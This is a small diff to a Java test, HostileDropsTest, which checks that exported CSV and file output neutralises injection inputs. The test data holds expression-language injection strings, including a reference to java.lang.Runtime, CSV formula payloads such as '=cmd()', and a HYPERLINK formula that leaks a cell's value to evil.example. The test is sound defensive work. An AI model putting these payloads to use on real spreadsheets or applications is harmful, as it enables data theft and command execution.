@@ -129,7 +129,7 @@ class HostileDropsTest {
         .contains(
             "/${env:HOME}/{{facedrop.api.key}}.png,${bean:intake},\"#{T(java.lang.Runtime)}\",");
     assertThat(output("formulas.csv", "success"))
-        .contains("'=cmd(),image_url,'@tag", ",'-12.50,", "'+491234,", "\"'=1\n+2\"")
+        .contains("'=cmd(),image_url,'@tag", ",'-12.50,", "'+491234,", "\"'=1\n'+2\"")
         .contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1)\"");
   }
 
